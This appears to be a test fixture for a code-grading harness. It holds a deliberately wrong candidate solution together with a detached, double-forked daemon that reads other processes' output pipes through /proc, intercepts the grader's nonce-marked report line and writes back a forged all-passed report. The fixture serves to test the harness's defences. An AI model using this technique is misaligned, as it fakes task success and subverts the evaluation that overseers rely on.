"""The report-channel attack (RELIABILITY.md, `report_channel_*`): a candidate starts a detached daemon (`setsid`,
double fork, so a process-group kill misses it) that opens every process's stdout through `/proc/<pid>/fd/1`,
waits for the run's report line (the marker included), takes it off the pipe and writes it back with every case
passed. Where it can reach the channel, it wins the race in most runs; its candidate's `f` is wrong."""

from __future__ import annotations

DAEMON = r"""
import json, os, time


def f(x):
    return x  # wrong: the tests want x + 1


def _forge():
    me, opened, deadline = os.getpid(), {}, time.time() + 15
    while time.time() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == me:
                continue
            for fd in ("1", "2"):
                path = f"/proc/{pid}/fd/{fd}"
                if path not in opened:
                    try:
                        opened[path] = os.open(path, os.O_RDWR | os.O_NONBLOCK)
                    except OSError:
                        pass
        for path, fd in list(opened.items()):
            try:
                data = os.read(fd, 1 << 20)
            except OSError:
                continue
            lines = [line for line in data.split(b"\n") if b"@@judgegraph-" in line]
            if lines:
                nonce = lines[-1][: lines[-1].index(b"@@", 2) + 2]
                report = {"load_error": None, "results": [["passed", ""]] * 64}
                os.write(fd, b"\n" + nonce + json.dumps(report).encode() + b"\n")
                os._exit(0)
        time.sleep(0.0005)
    os._exit(0)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _forge()
    os._exit(0)
"""
